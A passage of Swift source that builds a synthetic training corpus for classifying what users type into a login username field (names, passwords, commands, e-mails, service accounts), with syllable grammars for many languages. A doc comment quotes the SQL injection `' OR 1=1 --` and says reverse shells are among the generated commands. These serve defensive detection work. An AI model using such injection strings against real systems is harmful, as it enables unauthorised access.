// The training corpus of the username-field classifier, generated in code.
//
// Everything here is written by the project: small hand-written vocabularies (syllables, common
// English words, command names, flags, path segments, generic system-account names that are
// common knowledge) and grammars that combine them. No third-party word, name, password or
// command list is copied or derived from. The same seed always gives the same corpus.
import AnomalyModels

/// A labelled corpus of strings typed into the username field of a login prompt, generated from
/// the project's own vocabularies and grammars.
///
/// Five generators, one per ``UsernameClass``:
/// - **username**: given names and surnames from syllable grammars of many languages, in the
///   shapes that accounts take (`jane`, `jdoe`, `jane.doe`, `doe_j`, `jane.doe2`, `JDoe`, …);
/// - **password**: common words, compounds and phrases, leetspeak, keyboard walks, digit runs,
///   dates, word + digits + symbols and random strong passwords;
/// - **command**: a shell grammar (commands with flags, paths, pipes, redirections, `;`, `&&`,
///   `$(…)`, backticks, reverse shells, PowerShell, interpreters' one-liners) and SQL-ish
///   injections such as `' OR 1=1 --`;
/// - **email**: generated local parts at generated domains and top-level domains;
/// - **service**: generic system, database, network-device and application accounts
///   (`root`, `postgres`, `www-data`, `ec2-user`, …) and generated ones (`svc_backup`,
///   `svc-app-01`, `BILLADM`, `WEB01$`, …).
public enum UsernameCorpus {
    /// Generates `samplesPerClass` labelled strings for every class, interleaved class by class.
    ///
    /// - Parameters:
    ///   - seed: Determines the whole corpus: the same seed always gives the same samples.
    ///   - samplesPerClass: How many strings to generate for each of the five classes.
    /// - Returns: `5 × samplesPerClass` pairs of text and label.
    public static func generate(seed: UInt64 = 1, samplesPerClass: Int = 4000) -> [(text: String, label: UsernameClass)] {
        var random = CorpusRandom(seed: seed)
        var samples: [(text: String, label: UsernameClass)] = []
        samples.reserveCapacity(max(0, samplesPerClass) * UsernameClass.allCases.count)
        for _ in 0..<max(0, samplesPerClass) {
            for label in UsernameClass.allCases {
                samples.append((text: sample(label, using: &random), label: label))
            }
        }
        return samples
    }

    /// Generates `counts[label]` strings of each class (classes not in `counts` get none),
    /// interleaved so that every prefix of the result has roughly the requested proportions.
    ///
    /// - Parameters:
    ///   - seed: Determines the whole corpus.
    ///   - counts: How many strings of each class.
    public static func generate(seed: UInt64, counts: [UsernameClass: Int]) -> [(text: String, label: UsernameClass)] {
        var random = CorpusRandom(seed: seed)
        let wanted = UsernameClass.allCases.map { max(0, counts[$0] ?? 0) }
        let total = wanted.reduce(0, +)
        var made = [Int](repeating: 0, count: wanted.count)
        var samples: [(text: String, label: UsernameClass)] = []
        samples.reserveCapacity(total)
        // Round-robin weighted by the requested counts (largest remaining fraction first).
        for _ in 0..<total {
            var best = -1
            var bestDeficit = -Double.infinity
            for (i, want) in wanted.enumerated() where made[i] < want {
                let deficit = Double(want - made[i]) / Double(want)
                if deficit > bestDeficit { bestDeficit = deficit; best = i }
            }
            let label = UsernameClass.allCases[best]
            samples.append((text: sample(label, using: &random), label: label))
            made[best] += 1
        }
        return samples
    }

    /// The class mix ``UsernameClassifier/standard(seed:configuration:)`` trains on:
    /// more strings of the classes that are hard to tell apart (usernames, passwords and service
    /// accounts) than of commands and e-mail addresses, which are easy.
    public static func standardCounts(scale: Int = 1000) -> [UsernameClass: Int] {
        [.username: 7 * scale, .password: 7 * scale, .service: 6 * scale, .command: 5 * scale / 2, .email: 5 * scale / 2]
    }

    /// Generates `count` strings of one class.
    ///
    /// - Parameters:
    ///   - label: The class to generate.
    ///   - count: How many strings.
    ///   - seed: Determines the strings.
    public static func samples(of label: UsernameClass, count: Int, seed: UInt64 = 1) -> [String] {
        var random = CorpusRandom(seed: seed ^ 0x5EED_0F_C1A55)
        return (0..<max(0, count)).map { _ in sample(label, using: &random) }
    }

    static func sample(_ label: UsernameClass, using random: inout CorpusRandom) -> String {
        switch label {
        case .username: return UsernameGrammar.username(&random)
        case .password: return PasswordGrammar.password(&random)
        case .command: return CommandGrammar.command(&random)
        case .email: return EmailGrammar.email(&random)
        case .service: return ServiceGrammar.service(&random)
        }
    }
}

// MARK: - Randomness

/// Draws from `SeededGenerator.nextUniform()` only, so a corpus depends on nothing but its seed.
struct CorpusRandom {
    var generator: SeededGenerator

    init(seed: UInt64) { generator = SeededGenerator(seed: seed) }

    mutating func uniform() -> Double { generator.nextUniform() }

    /// Uniform in `0..<n` (`n` ≥ 1).
    mutating func int(_ n: Int) -> Int { Swift.min(n - 1, Int(uniform() * Double(n))) }

    mutating func int(in range: ClosedRange<Int>) -> Int { range.lowerBound + int(range.count) }

    mutating func chance(_ p: Double) -> Bool { uniform() < p }

    mutating func pick<T>(_ items: [T]) -> T { items[int(items.count)] }

    private var decks: [Int: (order: [Int], position: Int)] = [:]

    /// Deals `items` like cards from a shuffled deck identified by `deck`: every item comes up
    /// once before any comes up again, so a vocabulary is covered evenly.
    mutating func deal<T>(_ items: [T], deck: Int) -> T {
        var state = decks[deck] ?? (order: [], position: 0)
        if state.position >= state.order.count || state.order.count != items.count {
            var order = Array(items.indices)
            for i in stride(from: order.count - 1, to: 0, by: -1) { order.swapAt(i, int(i + 1)) }
            state = (order: order, position: 0)
        }
        let item = items[state.order[state.position]]
        state.position += 1
        decks[deck] = state
        return item
    }

    /// Picks among `(weight, value)` pairs in proportion to the weights.
    mutating func weighted<T>(_ options: [(Double, T)]) -> T {
        let total = options.reduce(0) { $0 + $1.0 }
        var x = uniform() * total
        for option in options {
            if x < option.0 { return option.1 }
            x -= option.0
        }
        return options[options.count - 1].1
    }

    mutating func digits(_ count: Int) -> String {
        String((0..<count).map { _ in Character(String(int(10))) })
    }
}

// MARK: - Shared text helpers

enum TextShape {
    static func capitalized(_ s: String) -> String {
        guard let first = s.first else { return s }
        return first.uppercased() + s.dropFirst()
    }

    /// Lowercase, Capitalized or UPPERCASE, with the given weights.
    static func casing(_ s: String, _ random: inout CorpusRandom, lower: Double, capital: Double, upper: Double) -> String {
        switch random.weighted([(lower, 0), (capital, 1), (upper, 2)]) {
        case 0: return s
        case 1: return capitalized(s)
        default: return s.uppercased()
        }
    }

    /// A two-digit or four-digit year between 1950 and 2029.
    static func year(_ random: inout CorpusRandom, twoDigits: Bool = false) -> String {
        let y = random.weighted([(1.0, random.int(in: 1950...1979)), (3.0, random.int(in: 1980...2009)), (2.0, random.int(in: 2010...2029))])
        return twoDigits ? String(String(y).suffix(2)) : String(y)
    }

    static func twoDigit(_ n: Int) -> String { n < 10 ? "0\(n)" : "\(n)" }
}

// MARK: - Names (syllable grammars, many languages)

/// A name style: a start, zero or more middles and an ending, each drawn from short syllable
/// inventories written for the project.
struct NameStyle {
    var starts: [String]
    var middles: [String]
    var ends: [String]
    var middleCount: ClosedRange<Int>

    func make(_ random: inout CorpusRandom) -> String {
        var name = random.pick(starts)
        let count = random.int(in: middleCount)
        for _ in 0..<count { name += random.pick(middles) }
        name += random.pick(ends)
        return NameStyle.tidy(name)
    }

    /// Removes triple letters and doubled vowels at joints that the syllable joins can produce.
    static func tidy(_ s: String) -> String {
        var out: [Character] = []
        for c in s {
            if out.count >= 2, out[out.count - 1] == c, out[out.count - 2] == c { continue }
            out.append(c)
        }
        return String(out)
    }
}

enum Names {
    // Given names. Each style is a syllable grammar, not a list of names.
    // English given names: an onset syllable and a name ending. Repeated entries are more likely.
    static let englishMasculine = NameStyle(
        starts: wordList("""
            ja ja jo jo jo ro ro mi mi wi wi da da ri ri cha tho chri pau ma ma do geo ke ke ste ste ed bri an an ga
            ti la je je fra sco e ray gre de wal pa pe ha dou hen car ar ry al bru ge nor vic ra ru phi ju ho lou mar
            ter gle dar ca fre leo lar ne she mel lu cli hu ba vern her jor le cur gor wa lew clar gil brad be cal ross
            ben sam nat za jac tre chad ty kei jus ber fer den tra roy ea os eu mo ver
            """),
        middles: wordList("ri na le the ber de ro li ca ve to"),
        ends: wordList("""
            mes hn bert chael lliam vid chard rles seph mas stopher niel l rk nald rge nneth ven ward an an thony vin
            son tthew ry ry mothy se rry ffrey nk tt ric phen drew mond gory shua nnis ter ter trick rold glas thur
            ger rl ce y el ie on on in en ian rus ald ney ly die ton ck ff ler rren lan nt x ndon dy ron rvin lvin
            dley ndall ss ott rt rd ldon rman rdon lbert stin ron ugh rris die wis ne lph ry ny nny ck rk ke
            """),
        middleCount: 0...0)
    static let englishFeminine = NameStyle(
        starts: wordList("""
            ma ma pa lin bar eli je je su mar do li li nan ka ka be he san ca ca ru sha mi lau sa sa kim de shir cyn
            an bren a a re vir kath ju te gla eve che mil ash ro ja ke ni cry tra ed ti car cin gra wen vic e e ki
            she syl thel shei es rhon ha am ap cla lu va me al gai ber dar ve jil er ger lo reg bea yvo jo sta ho bri
            mel van el bet co flo di
            """),
        middles: wordList("ri ne li na ra le lo"),
        ends: wordList("""
            ry tricia da bara zabeth nnifer ria san garet rothy sa cy ren tty len dra nna rol th ron chelle ra rah
            berly borah ssica ley thia gela lissa my na becca ginia leen mela tha bra manda phanie rolyn stine rie
            net therine ces nn yce ane lice lie ther resa ris lyn an ryl dred dith se nice lly cole dy stina thy
            verly nise mmy rene ne ri chel rilyn drea thryn ise slie nita ssa mie anne leanor lerie nielle gan licia
            zanne ssie rtha lene la ll en cia ine lla ette elle ie a a ah y lynn ena ina ica anna aine nie lia ra
            """),
        middleCount: 0...0)
    static let spanish = NameStyle(
        starts: ["jo", "ma", "lu", "ca", "an", "fer", "al", "ra", "pe", "ro", "die", "ja", "mi", "so", "ele", "ju", "ga",
                 "ri", "se", "pa", "ne", "cri", "gua", "xi", "ce", "is", "es", "ig", "en", "ro", "a", "be", "vi", "he",
                 "ma", "al", "ar", "san", "mer", "li", "fa", "te", "ru", "ho", "ger", "gil", "pi", "lo", "sil", "yo"],
        middles: ["ri", "na", "le", "to", "ber", "do", "ci", "sé", "nu", "fa", "lo", "dal", "re", "ti", "ni", "mi", "me",
                  "gue", "go", "cio", "da", "sa", "ce", "ta"],
        ends: ["sé", "se", "ría", "ria", "cía", "cia", "o", "a", "to", "ta", "do", "da", "na", "no", "el", "és", "es",
               "ez", "ás", "as", "ia", "io", "lo", "la", "ro", "ra", "go", "ga", "ena", "ina", "ino", "ito", "ita",
               "ón", "on", "ín", "in", "ar", "er", "ir", "or", "ián", "iana", "uel", "iel", "cio", "cia", "mo", "nio"],
        middleCount: 0...2)
    static let italian = NameStyle(
        starts: ["gio", "fran", "ma", "lu", "an", "ales", "pao", "ro", "ste", "fe", "si", "chia", "giu", "da", "lo",
                 "ni", "vi", "bea", "car", "eli", "fa", "gian", "mar", "ric", "ser", "tom", "ugo", "val", "en", "al",
                 "ot", "ar", "ce", "do", "fi", "gra", "ile", "mat", "pie", "sa", "ti", "ve"],
        middles: ["ri", "ce", "ca", "na", "len", "ret", "vi", "tto", "lo", "nel", "sep", "van", "ber", "ma", "chel",
                  "ren", "ran", "ves", "ger", "bat", "tis", "mi", "ne"],
        ends: ["nni", "nna", "co", "ca", "rco", "rca", "ca", "ssandro", "ssandra", "lo", "la", "berto", "berta", "fano",
               "fania", "derico", "lvia", "ara", "seppe", "niele", "renzo", "cola", "tto", "tta", "ino", "ina",
               "ello", "ella", "etto", "etta", "one", "ona", "io", "ia", "ano", "ana", "ico", "ica", "zo", "za", "ele"],
        middleCount: 0...1)
    static let german = NameStyle(
        starts: ["wolf", "hans", "jür", "die", "ger", "ulr", "hel", "kla", "fri", "her", "gün", "wer", "hor", "man",
                 "ste", "ste", "tho", "uwe", "kar", "ren", "hei", "inge", "ur", "gud", "lie", "ger", "ma", "an", "bri",
                 "chri", "sa", "lo", "jo", "lu", "fe", "fin", "le", "ma", "hen", "ot", "ru", "sieg", "wil", "ed",
                 "ben", "jan", "lars", "tim", "kat", "ann", "bir", "dag", "elk", "fra", "gre", "hil", "ilse", "jut"],
        middles: ["ter", "de", "li", "ha", "be", "ri", "na", "mun", "fried", "hel", "ne", "ma", "ger", "bert"],
        ends: ["gang", "hard", "bert", "fried", "helm", "mund", "run", "trud", "ke", "ga", "ter", "rich", "mut", "er",
               "rid", "drun", "nate", "ke", "ne", "rike", "ka", "ko", "as", "us", "ias", "ian", "nik", "ne", "ja", "tin",
               "jo", "ich", "old", "olf", "ert", "ud", "is", "ine", "a", "e", "o", "i", "elm", "ulf", "mar", "win"],
        middleCount: 0...1)
    static let french = NameStyle(
        starts: ["jea", "pie", "mi", "phi", "fran", "ni", "ber", "chris", "cat", "is", "na", "mar", "sté", "ste", "ju",
                 "lé", "lu", "ca", "ma", "thé", "hu", "mat", "gé", "ré", "cé", "é", "a", "ca", "jac", "yves", "ber",
                 "clé", "do", "gil", "ho", "lau", "oc", "pa", "qu", "sé", "so", "vé", "xa", "yann", "zo", "au", "mé"],
        middles: ["ri", "mi", "ne", "chel", "ta", "li", "de", "lé", "ber", "ro", "co", "ga", "ti", "ra"],
        ends: ["n", "nne", "rre", "chel", "chelle", "lippe", "çois", "çoise", "colas", "nard", "tine", "tophe", "belle",
               "thalie", "tin", "tine", "phane", "phanie", "lien", "lie", "a", "o", "cas", "ille", "ien", "ienne",
               "ard", "ois", "ique", "ier", "eau", "ette", "elle", "ine", "ine", "on", "ès", "el", "ent", "ence",
               "ry", "lène", "rène", "rard", "dine", "dith", "gues", "rick", "is", "aud", "ault", "zin", "mie"],
        middleCount: 0...1)
    static let slavic = NameStyle(
        starts: ["vla", "dmi", "ser", "an", "ale", "ni", "mi", "iv", "bo", "ya", "ka", "ta", "na", "ol", "ir", "svet",
                 "lud", "zbi", "sta", "jer", "pio", "tom", "mar", "woj", "kry", "ag", "ew", "gra", "mi", "lu", "ra",
                 "ve", "zo", "ja", "yu", "ig", "pa", "go", "dra", "bra", "mla", "jo", "ro", "du", "ka", "to", "lju"],
        middles: ["di", "ri", "ko", "la", "mi", "ta", "ro", "sla", "dre", "na", "le", "to", "ni", "go", "sy"],
        ends: ["slav", "mir", "ana", "ina", "ka", "ek", "ej", "ov", "ova", "ia", "ya", "an", "ko", "na", "ta", "ja",
               "tri", "gei", "drei", "ksandr", "kolai", "kail", "an", "ris", "roslav", "terina", "tiana", "talia",
               "ga", "ina", "lana", "mila", "sz", "usz", "ek", "ysztof", "ota", "orz", "ata", "ja", "an", "vo", "ica",
               "jan", "van", "dan", "ko", "mir", "slava", "rko", "nko", "jka", "sha", "la", "dim", "lya", "dya"],
        middleCount: 0...1)
    static let indian = NameStyle(
        starts: ["ra", "pri", "a", "su", "vi", "san", "ki", "de", "ma", "an", "ka", "ni", "sh", "ga", "ha", "ja", "la",
                 "mo", "na", "pa", "po", "ro", "sa", "ta", "u", "va", "ya", "ad", "ar", "as", "bha", "cha", "di", "gu",
                 "ish", "jy", "kri", "mee", "nee", "ra", "shr", "sw", "tri", "vik", "aa", "ra", "de", "pra", "su"],
        middles: ["ja", "vi", "ka", "na", "ya", "ni", "sh", "de", "ee", "ma", "ra", "hu", "ti", "ra", "dh", "ga", "la",
                  "ri", "tha", "mi", "ku", "an"],
        ends: ["esh", "ant", "ita", "ika", "raj", "deep", "preet", "ish", "ya", "ini", "a", "an", "am", "ay", "it",
               "ul", "ar", "av", "na", "ra", "ti", "tha", "iya", "endra", "inder", "jit", "pal", "vati", "kumar",
               "mita", "sh", "ul", "un", "esh", "ik", "al", "ndra", "nath", "ansh", "rav", "oj", "esha", "ali", "ani"],
        middleCount: 0...2)
    static let chinese = NameStyle(
        starts: ["wei", "li", "na", "xiao", "ming", "hui", "jun", "yan", "fang", "ling", "hong", "qiang", "lei", "jie",
                 "tao", "bo", "yu", "xin", "hao", "zhi", "jing", "yi", "hua", "ping", "gang", "min", "jian", "guo",
                 "chun", "mei", "lan", "xue", "yong", "feng", "long", "kai", "rui", "zi", "han", "wen", "shu", "qing",
                 "dan", "yun", "zhen", "xiu", "ying", "bin", "chao", "peng", "liang", "fei", "dong", "ning", "hai"],
        middles: [],
        ends: ["", "", "wei", "li", "na", "ming", "hui", "jun", "yan", "fang", "ling", "hong", "qiang", "lei", "jie",
               "tao", "bo", "yu", "xin", "hao", "hua", "ping", "min", "jian", "mei", "lan", "long", "kai", "han",
               "wen", "yun", "ying", "chen", "xuan", "yang", "zhou", "lin", "qi", "xi", "rong", "an", "en"],
        middleCount: 0...0)
    static let japanese = NameStyle(
        starts: ["hi", "ta", "ka", "yu", "sa", "ma", "ke", "ha", "na", "a", "mi", "ko", "to", "shi", "ki", "no", "ri",
                 "e", "yo", "ry", "da", "ku", "tsu", "fu", "se", "o", "ya", "ai", "mo", "chi", "ju", "sho", "ka", "ta"],
        middles: ["ka", "ki", "ku", "sa", "shi", "ta", "to", "na", "ni", "ma", "mi", "ro", "ri", "ra", "ya", "yu",
                  "su", "tsu", "ko", "no", "de", "zu", "ji", "ku"],
        ends: ["ko", "mi", "ka", "ro", "ta", "shi", "ki", "o", "e", "ya", "to", "na", "ri", "ji", "ke", "su", "ru",
               "ho", "ne", "yo", "ma", "hiro", "suke", "taro", "kazu", "nori", "miko", "rou", "ichi", "uke", "ya"],
        middleCount: 0...1)
    static let arabic = NameStyle(
        starts: ["mo", "ah", "ha", "a", "kha", "fa", "ya", "za", "sa", "ra", "na", "ma", "la", "ja", "ta", "hu", "o",
                 "i", "mus", "mah", "has", "ham", "khal", "far", "kar", "yas", "nab", "sal", "rash", "jam", "tar",
                 "ab", "ad", "ay", "bas", "ra", "wa", "ba", "su", "ri", "no", "dja", "sam", "sa", "mu", "ka"],
        middles: ["ham", "mad", "san", "li", "mi", "ri", "di", "bi", "ti", "fi", "ha", "ya", "ra", "ma", "la", "na",
                  "sa", "lal", "dal"],
        ends: ["med", "mad", "ad", "ed", "im", "ir", "ah", "a", "an", "iya", "ina", "ira", "id", "if", "ik", "il",
               "in", "ish", "oud", "ud", "ul", "ur", "us", "ar", "as", "at", "ya", "ma", "la", "na", "ra", "ha", "ima",
               "ila", "ina", "ifa", "ira", "iha", "ouf", "ssan", "ssein", "ssim", "mza", "tima", "nab", "dra"],
        middleCount: 0...1)
    static let african = NameStyle(
        starts: ["ade", "ola", "olu", "chi", "ngo", "kwa", "ba", "ye", "wa", "nde", "ji", "fe", "mi", "ko", "ku", "ndi",
                 "ama", "ze", "tha", "ema", "ifa", "obi", "nka", "ta", "se", "bo", "ka", "da", "thu", "si", "ka", "lu",
                 "ose", "ayo", "ibi", "kofi", "kwe", "abi", "emeka", "uche", "nna", "zi", "so", "me", "ru"],
        middles: ["ba", "wa", "mi", "ko", "ku", "ye", "tu", "nde", "ni", "la", "so", "yo", "de", "bu", "nga", "mbe"],
        ends: ["e", "a", "i", "u", "wa", "mi", "ke", "ye", "la", "ni", "ko", "mba", "nde", "nga", "ji", "ola", "ike",
               "emi", "ayo", "nna", "chi", "bo", "so", "tu", "ra", "ze", "ndo", "wo", "fa", "ma", "dzo", "ane"],
        middleCount: 0...1)
    static let nordic = NameStyle(
        starts: ["sv", "bj", "kj", "ing", "as", "ol", "ei", "ul", "fr", "gu", "ha", "kn", "la", "ma", "ni", "pe",
                 "ra", "si", "so", "st", "to", "ve", "ar", "bo", "da", "ed", "el", "er", "fi", "gr", "hj", "ja",
                 "je", "ka", "li", "lo", "mo", "no", "ny", "ro", "ru", "ta", "ti", "tr", "ul", "ve", "vi", "å", "ø"],
        middles: ["e", "i", "a", "o", "ri", "ve", "nu", "la", "ge", "ne", "de", "ke"],
        ends: ["en", "ørn", "ell", "rid", "e", "a", "af", "ik", "rik", "mar", "vald", "dis", "hild", "borg", "vor",
               "ar", "ild", "un", "und", "na", "ja", "ke", "ne", "er", "ert", "ulf", "stein", "ve", "de", "rd", "ga",
               "ari", "nja", "ine", "ny", "se", "sse", "tte", "ste", "as", "us", "is"],
        middleCount: 0...1)
    static let greekTurkish = NameStyle(
        starts: ["ni", "ko", "ge", "yor", "dim", "ka", "ste", "pa", "va", "xa", "the", "ele", "ma", "so", "ana", "ar",
                 "meh", "ay", "em", "er", "bur", "can", "ce", "zey", "ne", "fat", "ke", "mu", "se", "hü", "öz", "ya",
                 "tu", "ha", "ba", "ah", "os", "ze", "de", "il", "ip", "ev", "ag", "ir", "ö", "ü"],
        middles: ["ko", "ri", "la", "ni", "sta", "ge", "tha", "me", "li", "ra", "ke", "tu", "ha", "ze", "ne", "su"],
        ends: ["os", "is", "as", "ia", "ou", "ides", "a", "i", "e", "an", "in", "ay", "em", "ur", "ül", "met", "ra",
               "ek", "el", "en", "er", "es", "han", "can", "naz", "nur", "tin", "gül", "sel", "kan", "tan", "ina", "ena"],
        middleCount: 0...1)

    static let givenStyles: [(Double, NameStyle)] = [
        (3.5, englishMasculine), (3.5, englishFeminine), (1.0, spanish), (0.6, italian), (0.6, german),
        (0.6, french), (0.7, slavic), (0.8, indian), (0.6, chinese), (0.4, japanese), (0.6, arabic),
        (0.4, african), (0.4, nordic), (0.4, greekTurkish),
    ]

    /// English short forms and pet forms: a closed syllable (`tom`, `jen`), doubled with `-y`/`-ie`
    /// (`tommy`, `jennie`) or with a silent `e` (`mike`, `kate`).
    static func shortForm(_ random: inout CorpusRandom) -> String {
        let onset = random.pick(wordList("b d j t r s m n k p g h l w f ch st fr br cr ph sh v z c gr cl tr dr cr kr bl gl sk"))
        let vowel = random.pick(wordList("a a e i o o u ea oy ay y"))
        let coda = random.pick(wordList("b d m n t ck k l l x ff g s n m d b rk rt rl rd nt ll nd dd tt ss"))
        switch random.weighted([(3.0, 0), (5.0, 1), (2.0, 2)]) {
        case 0: return onset + vowel + coda
        case 1:
            let doubled = coda.count == 1 && !"xk".contains(coda) ? coda + coda : coda
            return onset + vowel + doubled + random.pick(["y", "y", "ie", "i"])
        default:
            let single = coda.count == 1 ? coda : String(coda.suffix(1))
            return onset + random.pick(["a", "i", "o", "e", "u"]) + (single == "x" ? "s" : single) + "e"
        }
    }

    /// A given name from one of the syllable grammars, lowercase.
    static func given(_ random: inout CorpusRandom) -> String {
        if random.chance(0.2) { return shortForm(&random) }
        var name = random.weighted(givenStyles).make(&random)
        while name.count < 3 { name += random.pick(["n", "a", "o", "e", "y"]) }
        return name
    }

    // Surnames: a stem from a few syllables and a surname ending typical of some language.
    static let surnameStems: [String] = [
        "smi", "joh", "wil", "bro", "jo", "gar", "mil", "da", "rod", "mar", "her", "lo", "gon", "ander", "tho", "tay",
        "moo", "jack", "whi", "har", "san", "cla", "ram", "lew", "rob", "wal", "you", "all", "kin", "wri", "sco",
        "tor", "ngu", "hil", "flo", "gre", "ada", "nel", "bak", "hal", "rive", "cam", "mit", "car", "rob", "gom",
        "phi", "eva", "tur", "dia", "par", "cru", "edw", "col", "ste", "mor", "ree", "coo", "rog", "gut", "ort",
        "mur", "kim", "ber", "bai", "kow", "now", "wis", "kam", "lew", "sch", "mül", "mue", "wag", "bec", "hof",
        "kel", "fis", "web", "mey", "kor", "ivan", "pet", "smir", "sok", "pop", "vol", "kuz", "nov", "fed", "mor",
        "ros", "bian", "col", "ric", "fer", "esp", "gal", "cos", "bru", "gre", "dub", "lef", "mor", "lam", "gir",
        "bon", "fon", "sin", "pat", "sha", "kum", "red", "nai", "iye", "cha", "gup", "wang", "zhang", "liu", "chen",
        "yang", "huang", "zhao", "wu", "zhou", "xu", "sato", "suzu", "taka", "tana", "wata", "ito", "yama", "naka",
        "kaw", "ab", "has", "kha", "ibr", "yus", "oka", "ade", "obi", "nwa", "ols", "lar", "nil", "hans", "joh",
        "pap", "ged", "yil", "kay", "dem", "şah", "çel", "öz", "ay", "dog", "kar",
    ]
    static let surnameEnds: [String] = [
        "th", "nson", "liams", "wn", "nes", "cia", "ler", "vis", "riguez", "tinez", "nandez", "pez", "zalez", "son",
        "mas", "lor", "ore", "ckson", "te", "ris", "chez", "rk", "irez", "is", "inson", "ker", "ng", "ight", "tt",
        "res", "yen", "ll", "res", "ms", "son", "er", "ll", "era", "pbell", "chell", "ter", "erts", "ez", "llips",
        "ans", "ner", "az", "ker", "z", "ards", "lins", "wart", "gan", "ed", "k", "ers", "tierrez", "iz", "phy",
        "sen", "ez", "ski", "ska", "ova", "ov", "ev", "man", "mann", "ley", "ton", "ford", "field", "wood", "berg",
        "stein", "elli", "etti", "ini", "escu", "idis", "opoulos", "yan", "ian", "oglu", "ek", "ic", "enko", "uk",
        "ard", "ette", "eau", "well", "ham", "by", "worth", "ich", "itz", "ner", "hardt", "ke", "er", "ov", "in",
        "ova", "ina", "lov", "nov", "ak", "czyk", "wski", "wska", "ari", "ini", "ano", "one", "elli", "ois",
        "ier", "ault", "ot", "ma", "rma", "mar", "dy", "ir", "ta", "pta", "", "", "", "ki", "ki", "hashi", "ka",
        "mura", "moto", "no", "da", "ta", "mad", "san", "im", "ah", "eke", "ye", "ji", "chukwu", "dottir", "sson",
        "stad", "lund", "dal", "lu", "dakis", "ıldız", "ildiz", "maz", "an", "er", "ol", "can",
    ]

    /// A surname from a stem and an ending, lowercase.
    static func surname(_ random: inout CorpusRandom) -> String {
        var s = random.pick(surnameStems)
        if random.chance(0.25) { s += random.pick(["a", "e", "i", "o", "er", "an", "el", "in"]) }
        s += random.pick(surnameEnds)
        if random.chance(0.06) { s = random.pick(["mc", "mac", "o", "van", "de", "di", "del", "von", "al"]) + s }
        return NameStyle.tidy(s)
    }
}

// MARK: - Usernames

enum UsernameGrammar {
    static func username(_ random: inout CorpusRandom) -> String {
        let first = Names.given(&random)
        let last = Names.surname(&random)
        let f = String(first.prefix(1))
        let l = String(last.prefix(1))
        let sep = random.weighted([(5.0, "."), (2.5, "_"), (1.5, "-")])
        let number: String = random.weighted([
            (3.0, String(random.int(in: 1...9))), (3.0, String(random.int(in: 10...99))),
            (1.5, TextShape.year(&random)), (1.0, TextShape.year(&random, twoDigits: true)),
            (0.7, String(random.int(in: 100...999))),
        ])
        let pattern = random.weighted([
            (30.0, 0), // first
            (10.0, 1), // first.last
            (8.0, 2), // flast
            (4.0, 3), // firstlast
            (4.0, 4), // first + number
            (3.0, 5), // flast + number
            (2.0, 6), // first.l / firstl
            (2.0, 7), // last.first / lastf
            (1.5, 8), // first.last + number
            (2.5, 9), // last
            (1.0, 10), // f.m.last / fmlast
            (0.8, 11), // nickname: first truncated
            (0.8, 12), // DOMAIN\user or user@realm style without a domain name
            (0.8, 13), // letter + employee number (u12345)
            (1.0, 14), // first + last initial + digits (janed3)
        ])
        var text: String
        switch pattern {
        case 0: text = first
        case 1: text = "\(first)\(sep)\(last)"
        case 2: text = "\(f)\(random.chance(0.2) ? sep : "")\(last)"
        case 3: text = "\(first)\(last)"
        case 4: text = "\(first)\(random.chance(0.15) ? sep : "")\(number)"
        case 5: text = "\(f)\(last)\(number)"
        case 6: text = random.chance(0.5) ? "\(first)\(sep)\(l)" : "\(first)\(l)"
        case 7: text = random.chance(0.5) ? "\(last)\(sep)\(first)" : "\(last)\(f)"
        case 8: text = "\(first)\(sep)\(last)\(number)"
        case 9: text = last
        case 10:
            let m = String(Names.given(&random).prefix(1))
            text = random.chance(0.5) ? "\(f).\(m).\(last)" : "\(f)\(m)\(last)"
        case 11: text = String(first.prefix(random.int(in: 3...4)))
        case 12:
            let domain = random.pick(["corp", "ad", "hq", "int", "lab", "office", "dom", "win", "ac", "net"])
            let user = random.chance(0.5) ? "\(f)\(last)" : "\(first).\(last)"
            text = random.chance(0.7) ? "\(domain.uppercased())\\\(user)" : "\(domain)\\\(user)"
        case 13: text = "\(random.pick(["u", "e", "a", "x", "p", "s", "t"]))\(random.digits(random.int(in: 4...7)))"
        default: text = "\(first)\(l)\(random.chance(0.5) ? number : "")"
        }
        // Case: mostly lowercase, some Capitalized (John.Smith, JSmith), few UPPERCASE.
        switch random.weighted([(80.0, 0), (14.0, 1), (3.0, 2), (3.0, 3)]) {
        case 1:
            text = text.split(separator: sep.first!, omittingEmptySubsequences: false)
                .map { TextShape.capitalized(String($0)) }.joined(separator: sep)
        case 2: text = text.uppercased()
        case 3 where pattern == 2 || pattern == 5:
            text = f.uppercased() + TextShape.capitalized(String(text.dropFirst()))
        default: break
        }
        return text
    }
}

// MARK: - Passwords

/// Splits a block of whitespace-separated words.
func wordList(_ block: String) -> [String] {
    block.split(whereSeparator: { $0 == " " || $0 == "\n" }).map(String.init)
}

/// Like ``wordList(_:)``, without repeated words (first occurrence kept).
func uniqueWordList(_ block: String) -> [String] {
    var seen = Set<String>()
    return wordList(block).filter { seen.insert($0).inserted }
}

enum PasswordGrammar {
    /// Common English words of the kinds people pick for passwords: animals, sports, colours,
    /// feelings, nature, fantasy, music, food, family, places, things.
    static let words: [String] = uniqueWordList("""
        dragon monkey tiger eagle falcon shark wolf bear lion panther horse pony puppy kitty kitten bunny rabbit turtle
        dolphin whale snake cobra viper spider scorpion fox hawk raven crow phoenix unicorn butterfly ladybug bee hornet
        mustang stallion bulldog doggie doggy cat dog fish bird chicken duck goose penguin panda koala zebra giraffe
        gorilla donkey buffalo jaguar cougar leopard cheetah rhino hippo lizard gator alligator crocodile frog toad mouse
        rat hamster ferret weasel badger beaver otter moose elk deer reindeer camel llama goat sheep lamb cow bull pig
        piggy hog boar kangaroo squirrel chipmunk raccoon skunk possum bat owl parrot canary pigeon dove swan seagull
        pelican flamingo peacock ostrich turkey rooster hen chick salmon trout tuna shrimp lobster crab octopus squid
        jellyfish starfish seal walrus beetle cricket firefly ant wasp mosquito worm snail dinosaur trex raptor griffin
        pegasus hydra kraken yeti bigfoot monster beast critter pet pitbull poodle beagle husky rottweiler labrador
        terrier collie boxer dalmatian chihuahua shepherd tomcat tabby lynx bobcat puma wildcat hound mutt stingray
        football baseball soccer hockey basketball golf golfer tennis boxing racing runner player winner champion champ
        victory skater skateboard surfer surfing hunter hunting fishing fisher gamer gaming ninja pirate warrior knight
        soldier ranger sniper striker goalie pitcher catcher quarterback touchdown homerun slamdunk wrestler wrestling
        karate judo kungfu rugby volleyball softball lacrosse bowling billiards snooker darts chess poker blackjack
        casino jackpot bingo lottery nascar formula motocross skiing snowboard climber hiker biker cyclist marathon
        sprinter jumper swimmer diver rower archer arrow target bullseye referee coach team league trophy medal
